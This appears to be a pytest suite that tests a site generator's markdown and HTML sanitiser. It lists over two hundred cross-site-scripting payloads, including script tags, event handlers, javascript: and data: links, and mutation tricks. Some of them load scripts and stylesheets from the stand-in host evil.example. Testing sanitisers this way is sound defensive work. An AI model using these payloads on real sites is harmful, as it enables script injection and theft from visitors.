"""Hostile texts: whatever a body says, its HTML holds nothing that a browser would run or load."""

from __future__ import annotations

import re
from html import escape
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pressgen.content.markdown.conversion import convert, render
from pressgen.content.markdown.policy import _CLEANER, is_safe, sanitise, without_comments, without_controls
from pressgen.errors import ContentError

ELEMENTS = (
    "a abbr b bdi bdo blockquote br caption cite code col colgroup data dd del details dfn div dl dt em figcaption "
    "figure h2 h3 h4 h5 h6 hr i img ins kbd li mark nav ol p pre q rp rt ruby s samp small span strong sub summary sup "
    "table tbody td tfoot th thead time tr u ul var wbr"
)
SAFE_ELEMENTS = frozenset(ELEMENTS.split())
ATTRIBUTES = (
    "alt aria-hidden aria-label class colspan datetime dir height href hreflang id lang open reversed role rowspan scope span src "
    "start tabindex title type value width"
)
SAFE_ATTRIBUTES = frozenset(ATTRIBUTES.split())
SAFE_SCHEMES = ("", "http", "https", "mailto", "tel", "viber")


class Findings(HTMLParser):
    """What a reader's browser might run, load or be taken in by."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in SAFE_ELEMENTS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in SAFE_ATTRIBUTES:
                self.found.append(f"{tag} {name}")
            elif name in ("href", "src"):
                seen = re.sub("[\x00-\x20]", "", value or "").lower()
                scheme = re.match(r"([^/?#:]*):", seen)
                if (scheme.group(1) if scheme else "") not in SAFE_SCHEMES or seen.startswith(("//", "\\", "/\\")):
                    self.found.append(f"{tag} {name}={value!r}")

    def handle_comment(self, data: str) -> None:
        self.found.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.found.append("declaration")

    def unknown_decl(self, data: str) -> None:
        self.found.append("section")

    def handle_pi(self, data: str) -> None:
        self.found.append("instruction")


RAW_HTML = r'''
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script
src="https://evil.example/x.js"></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script/x>
<script>alert(1)
<img src=x onerror=alert(1)>
<img src=x OnErRoR="alert(1)">
<img/src=x/onerror=alert(1)>
<img src="x"onerror="alert(1)">
<img src=x onerror&#61;alert(1)>
<img src=`x`onerror=alert(1)>
<img """><script>alert(1)</script>">
<img src=x:alert(alt) onerror=eval(src) alt=1>
<img src="javascript:alert(1)">
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">
<img srcset="https://evil.example/x.png 1x" src=a.png alt=a>
<img src=a.png alt="x" usemap="#m" ismap crossorigin loading=lazy>
<image src=x onerror=alert(1)>
<svg onload=alert(1)></svg>
<svg><script>alert(1)</script></svg>
<svg><script xlink:href="data:,alert(1)"></script></svg>
<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><set attributeName=href to=javascript:alert(1)></svg>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"></use></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
<plaintext><script>alert(1)</script>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<template><script>alert(1)</script></template>
<select><option><style></option></select><script>alert(1)</script></style>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<style>@import "https://evil.example/x.css";</style>
<style>body{background:url(javascript:alert(1))}</style>
<div style="background:url(javascript:alert(1))">x</div>
<p style="behavior:url(#x);-moz-binding:url(//evil.example)">x</p>
<link rel=stylesheet href=//evil.example/x.css>
<link rel="import" href="data:text/html,<script>alert(1)</script>">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<base href="https://evil.example/">
<base target="_blank"><a href=a.md>x</a>
<iframe src="javascript:alert(1)"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="https://ok.example/" onload=alert(1) title="<script>alert(1)</script>"></iframe>
<iframe src='https://ok.example/"><script>alert(1)</script>'></iframe>
<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>
<object data="javascript:alert(1)"></object>
<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml">
<applet code=X></applet>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster="javascript:alert(1)" src="https://ok.example/v.mp4"></video>
<audio src=x oncanplay=alert(1) autoplay></audio>
<form action="javascript:alert(1)"><button>x</button></form>
<form id=f></form><button form=f formaction="javascript:alert(1)">x</button>
<input type=image src=x formaction=javascript:alert(1) onfocus=alert(1) autofocus>
<isindex action="javascript:alert(1)" type=image>
<keygen autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)><option>x</select>
<marquee onstart=alert(1)>x</marquee>
<details open ontoggle=alert(1)><summary>x</summary></details>
<body onload=alert(1)>
<html xmlns:x="javascript:alert(1)" manifest="//evil.example">
<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</table>
<table title="<table><script>alert(1)</script>"><tr><td>x</table>
<p title="<h1><table><pre></table><script>alert(1)</script>">x</p>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&Tab;script&colon;alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
<a href="blob:https://evil.example/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="view-source:https://x.example/">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="&#2;0&#3;">x</a>
<a href="/&#9;/evil.example">x</a>
<a href="\\evil.example\x">x</a>
<a href="/\evil.example">x</a>
<a href=x onclick=alert(1) onmouseover="alert(1)" target=_top ping="//evil.example" download>x</a>
<a href="x" rel="opener" referrerpolicy="unsafe-url" type="x">x</a>
<a <script>alert(1)</script> href=x>y</a>
<div id="_main" class="x" onclick=alert(1) contenteditable tabindex=1 accesskey=x data-x=1 is=x slot=y part=z>x</div>
<custom-element onclick=alert(1)>x</custom-element>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<!--<img src="--><img src=x onerror=alert(1)//">
<!--><script>alert(1)</script>-->
<!-- --!><script>alert(1)</script> -->
<![CDATA[<script>alert(1)</script>]]>
<![CDATA[><img src=x onerror=alert(1)>]]>
<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;
<?xml-stylesheet href="javascript:alert(1)"?><script>alert(1)</script>
<? <img src=x onerror=alert(1)> ?>
</script><script>alert(1)</script>
</p><script>alert(1)</script><p>
<div><b><p></b><script>alert(1)</script></p></div>
<a href="x" title="&quot;onmouseover=&quot;alert(1)">x</a>
<a href='x"onmouseover="alert(1)'>x</a>
<figure><img src="x" title="&lt;/figcaption&gt;&lt;script&gt;alert(1)&lt;/script&gt;"></figure>
<caption><script>alert(1)</script></caption>
<table><caption>"><script>alert(1)</script></caption><tr><td>x</table>
<div markdown="1" onclick="alert(1)">*x* [y](javascript:alert(1))</div>
<span markdown onclick=alert(1)><script>alert(1)</script></span>
<p><img src=x alt="&lt;script&gt;alert(1)&lt;/script&gt;"></p>
<img src="https://h.example/x.png" alt="<script>alert(1)</script>" title="&quot;><script>alert(1)</script>">
<div
'''.strip().split("\n<")
RAW_HTML = [RAW_HTML[0], *(f"<{payload}" for payload in RAW_HTML[1:])]

MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](< java\tscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](javascript:alert(1) \"title\")",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](https://ok.example/\"onmouseover=\"alert(1))",
    "[x](a.md \"\\\"><script>alert(1)</script>\")",
    "[x](a.md 'a\" onmouseover=\"alert(1)')",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: a.md \"\"onmouseover=\"alert(1)\"\"",
    "[javascript:alert(1)][]\n\n[javascript:alert(1)]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<javascript&colon;alert(1)>",
    "<https://ok.example/\"onclick=\"alert(1)>",
    "<https://ok.example/'><script>alert(1)</script>>",
    "<mailto:a@b.example\"onclick=alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![\"onerror=\"alert(1)](x.png)",
    "![x](x.png\"onerror=\"alert(1))",
    "![x](x.png \"\\\"onerror=alert(1)\")",
    "![x](x.png '</figcaption><script>alert(1)</script>')",
    "![<script>alert(1)</script>](https://h.example/x.png)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "text {: onclick=alert(1)}",
    "text\n{: onclick=\"alert(1)\" style=\"color:red\"}",
    "[x](a.md){: href=\"javascript:alert(1)\"}",
    "[x](a.md){: href=javascript:alert(1) onclick=alert(1) }",
    "![x](x.png){: src=javascript:alert(1) onerror=alert(1) }",
    "*x*{: onmouseover='alert(1)' title='\"><script>alert(1)</script>'}",
    "# Head {: #x onclick=alert(1)}",
    "# <script>alert(1)</script>",
    "# Head <img src=x onerror=alert(1)>",
    "# Head\" onmouseover=\"alert(1)",
    "# Head {#\"><script>alert(1)</script>}",
    "* item\n{: onclick=alert(1)}",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) {: onclick=alert(1)} |",
    "x[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
    "x[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: y",
    "x[^\" onclick=\"alert(1)]\n\n[^\" onclick=\"alert(1)]: y",
    "HTML\n\n*[HTML]: \"><script>alert(1)</script>",
    "HTML\n\n*[HTML]: x\" onmouseover=\"alert(1)",
    "*[<script>alert(1)</script>]: x\n\n<script>alert(1)</script>",
    "!!! \"><script>alert(1)</script>\n    x",
    "!!! note \"<script>alert(1)</script>\"\n    x",
    "Term <script>alert(1)</script>\n:   <img src=x onerror=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    "```\"onclick=alert(1)\nx\n```",
    "``` { .x onclick=alert(1) }\nx\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "* <script>alert(1)</script>\n* <img src=x onerror=alert(1)>",
    "<b><!-- *x* --><script>alert(1)</script></b>",
    "[TOC]\n\n# <img src=x onerror=alert(1)>",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "\x02amp\x03lt;script>alert(1)",
    "&#2;0&#3;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "<<script>alert(1);//<</script>",
    "<a\x00href=\"javascript:alert(1)\">x</a>",
    "＜script＞alert(1)＜/script＞",
    "<\u200bscript>alert(1)</script>",
]  # fmt: skip


@pytest.mark.parametrize("payload", RAW_HTML + MARKDOWN)
def test_nothing_that_runs_or_loads_gets_through(payload: str) -> None:
    for text in (payload, f"Words before {payload} and after.", f"# Title\n\n{payload}\n\nMore *text*.\n"):
        body, _ = convert(text, "a.md", 1, "en")
        assert Findings(body.html).found == []


PIECES = (
    *("a", " ", "\n", "\n\n", "    ", "  \n", "> ", "- ", "1. ", "# ", "```", "`", "*", "**", "_", "~~", "|", "---", "<", ">"),
    *("[", "]", "(", ")", "![", "](", "][", "[x]", "[x]: /a 'b\"'", "[^1]", "[^1]: n", "[!NOTE]", "\n: d", "*[A]: <b>\"'"),
    *("http://", "https://a.example/?a=1&b='", "http://1.2.3.999", "//x", "\\\\x", "javascript:", "a@b.example", "<a@b.c>"),
    *("+998 71 123 45 67", "&", "&amp;", "&lt;", "&#13;", "&#1;", "&nbsp;", "\u00a0", "\u00ad", "\ufffe", '"', "'", "\\", "{.x}"),
    *("| a | b |\n|:-:|---|\n| c |", "- [ ] ", "!!! note\n    x", "\r", "\x02", "<http://a.example>"),
    *("<!-- c -->", "<!--more-->\n", "<!-->", "<!-- -- -->"),
)  # fmt: skip
"""What texts are made of to which no HTML is written but comments; a few others too."""


def assert_clean(text: str) -> bool:
    """Whether HTML counts as clean; if so, the sanitiser must not change a byte of it."""
    rendering = render(text, "a.md", 1, "en")
    if rendering.is_clean:
        assert sanitise(rendering.html) == without_controls(without_comments(rendering.html))
    return rendering.is_clean


@settings(max_examples=1500)
@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
def test_what_is_not_sanitised_is_what_the_sanitiser_would_give(text: str) -> None:
    assert_clean(text)


def test_hostile_texts_are_sanitised_unless_it_changes_nothing() -> None:
    clean = [assert_clean(f"# T\n\n{payload}\n\n[x]({payload}) *a*\n") for payload in (*RAW_HTML, *MARKDOWN)]
    assert any(clean)
    assert not all(clean)
    assert assert_clean("<!-- c -->\n\nWords <!--more--> and\n\n    <!-- code -->\n")
    assert assert_clean("# T\n\nWords, *emphasis*, [links](https://a.example/?a&b) and +998 71 123 45 67.\n")


@given(st.from_regex(r"https?://[a-z0-9.:@\[\]%_-]{1,12}[/?#]?[!-~]{0,6}", fullmatch=True))
def test_an_address_is_safe_if_the_sanitiser_keeps_it(address: str) -> None:
    assert is_safe(address) == ("href=" in _CLEANER.clean(f'<a href="{escape(address)}">'))


@pytest.mark.parametrize(
    "payload",
    [
        "<script>x</script>",
        "<p onclick=x>",
        '<a href="java\tscript:x">x</a>',
        "<h1>x</h1>",
        "<img srcset=x>",
        "<!-- x -->",
    ],
)
def test_the_search_for_what_runs_finds_it(payload: str) -> None:
    assert Findings(payload).found


def test_there_are_more_than_two_hundred_hostile_texts() -> None:
    assert len({*RAW_HTML, *MARKDOWN}) > 200


@pytest.mark.parametrize("payload", ["{{ 7 * 7 }}", "{% include 'x' %}", "${7*7}", "<%= 7 * 7 %>", "#{7*7}"])
def test_template_code_stays_text(payload: str) -> None:
    body, _ = convert(f"`{payload}`", "a.md", 1, "en")
    assert body.opening == payload


@pytest.mark.parametrize("text", ["&#2;0&#3; &#8;\x0b\x02", "[x](b.md) &#x2;0&#x3;", "<a href='&#2;0&#3;'>x</a>"])
def test_marks_and_control_characters_come_from_nowhere_but_references(text: str) -> None:
    body, _ = convert(text, "a.md", 1, "en")
    marks = re.findall("\x02([0-9]+)\x03", body.html)
    assert len(marks) == len(body.references) == body.html.count("\x02") == body.html.count("\x03")
    assert not re.search("[\x00\x01\x04-\x08\x0b\x0c\x0e-\x1f]", body.html)


def test_nesting_without_end_is_an_error_of_its_file_and_spoils_no_other() -> None:
    with pytest.raises(ContentError) as raised:
        convert("".join(f"{'    ' * level}* x\n" for level in range(300)), "deep.md", 7, "en")
    problem = raised.value.problems[0]
    assert (problem.code, problem.file, problem.line) == ("markdown-too-deep", "deep.md", 7)
    assert convert("*x*", "b.md", 1, "en")[0].html == "<p><em>x</em></p>"


def test_a_text_that_cannot_be_converted_is_an_error_with_its_place() -> None:
    with pytest.raises(ContentError) as raised:
        convert("a \udc80 b", "odd.md", 3, "en")
    problem = raised.value.problems[0]
    assert (problem.code, problem.file, problem.line, problem.severity) == ("markdown-failed", "odd.md", 3, "error")
